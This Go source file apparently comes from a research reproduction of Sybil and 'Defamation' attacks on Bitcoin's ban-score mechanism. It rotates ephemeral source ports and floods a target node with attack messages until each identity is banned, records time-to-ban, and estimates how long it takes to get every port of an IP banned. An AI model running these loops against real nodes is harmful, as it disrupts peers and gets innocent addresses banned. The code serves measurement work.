package attack

import (
	"fmt"
	"net"
	"sync"
	"time"

	"banscore/internal/wire"
)

// Dialer opens a connection from a chosen source identifier to the target —
// simnet provides this directly; on real networks the OS assigns ephemeral
// ports, which is equivalent for serial Sybil.
type Dialer func(from, to string) (net.Conn, error)

// EphemeralPortStart / EphemeralPortEnd delimit the dynamic port range the
// paper's full-IP Defamation estimate uses: 65536 - 49152 = 16384 ports.
const (
	EphemeralPortStart = 49152
	EphemeralPortEnd   = 65535
	EphemeralPortCount = EphemeralPortEnd - EphemeralPortStart + 1
)

// SybilManager mints fresh connection identifiers for one attacker IP. In
// the permissionless network one entity can hold arbitrarily many
// identifiers — the property that defeats [IP:Port]-granular banning.
type SybilManager struct {
	ip     string
	target string
	magic  wire.BitcoinNet
	dial   Dialer

	mu       sync.Mutex
	nextPort int
}

// NewSybilManager returns a manager minting identifiers ip:49152..65535.
func NewSybilManager(ip, target string, magic wire.BitcoinNet, dial Dialer) *SybilManager {
	return &SybilManager{
		ip:       ip,
		target:   target,
		magic:    magic,
		dial:     dial,
		nextPort: EphemeralPortStart,
	}
}

// NextSession connects with a fresh [IP:Port] identifier and completes the
// version handshake.
func (m *SybilManager) NextSession(handshakeTimeout time.Duration) (*Session, error) {
	m.mu.Lock()
	if m.nextPort > EphemeralPortEnd {
		m.mu.Unlock()
		return nil, fmt.Errorf("attack: ephemeral identifier space exhausted (%d ports)", EphemeralPortCount)
	}
	from := fmt.Sprintf("%s:%d", m.ip, m.nextPort)
	m.nextPort++
	m.mu.Unlock()

	conn, err := m.dial(from, m.target)
	if err != nil {
		return nil, fmt.Errorf("sybil dial %s: %w", from, err)
	}
	s := NewSession(conn, m.magic)
	if err := s.Handshake(handshakeTimeout); err != nil {
		s.Close()
		return nil, err
	}
	return s, nil
}

// SerialResult describes one identifier's run in a serial Sybil attack.
type SerialResult struct {
	Identifier string
	// MessagesSent before the victim cut the connection.
	MessagesSent uint64
	// TimeToBan from first attack message to connection loss.
	TimeToBan time.Duration
	// ConnectLatency of establishing the session (the ~0.2 s handshake
	// overhead the paper measures).
	ConnectLatency time.Duration
}

// RunSerial performs the paper's serial Sybil loop: connect with a fresh
// identifier, flood attack messages until banned (connection drop), then
// move to the next identifier. next produces each attack message; delay is
// the inter-message delay (Fig. 8 compares 0 vs 1 ms).
func (m *SybilManager) RunSerial(identifiers int, next func() wire.Message, delay time.Duration) ([]SerialResult, error) {
	results := make([]SerialResult, 0, identifiers)
	for i := 0; i < identifiers; i++ {
		connStart := clk.Now()
		s, err := m.NextSession(5 * time.Second)
		if err != nil {
			return results, err
		}
		connectLatency := clk.Since(connStart)

		attackStart := clk.Now()
		var sent uint64
		for {
			if err := s.Send(next()); err != nil {
				break // banned and disconnected
			}
			sent++
			if delay > 0 {
				clk.Sleep(delay)
			}
		}
		results = append(results, SerialResult{
			Identifier:     s.LocalAddr(),
			MessagesSent:   sent,
			TimeToBan:      clk.Since(attackStart),
			ConnectLatency: connectLatency,
		})
		s.Close()
	}
	return results, nil
}

// RunParallel opens n concurrent Sybil sessions and runs attack on each —
// the Fig. 6 "10 sockets / 20 sockets" configuration. It blocks until every
// session's attack function returns.
func (m *SybilManager) RunParallel(n int, attackFn func(*Session)) error {
	sessions := make([]*Session, 0, n)
	for i := 0; i < n; i++ {
		s, err := m.NextSession(5 * time.Second)
		if err != nil {
			for _, open := range sessions {
				open.Close()
			}
			return err
		}
		sessions = append(sessions, s)
	}
	var wg sync.WaitGroup
	for _, s := range sessions {
		s := s
		spawn(&wg, func() {
			defer s.Close()
			attackFn(s)
		})
	}
	wg.Wait()
	return nil
}

// FullIPDefamationEstimate computes the paper's §VI-D estimate: the time to
// preemptively defame every ephemeral port of one IP address, given the
// measured per-identifier time-to-ban and reconnection latency. With the
// paper's 0.1 s ban + 0.2 s reconnect this is 16384·0.3/60 ≈ 81.92 minutes.
func FullIPDefamationEstimate(timeToBan, reconnectLatency time.Duration) time.Duration {
	return time.Duration(EphemeralPortCount) * (timeToBan + reconnectLatency)
}
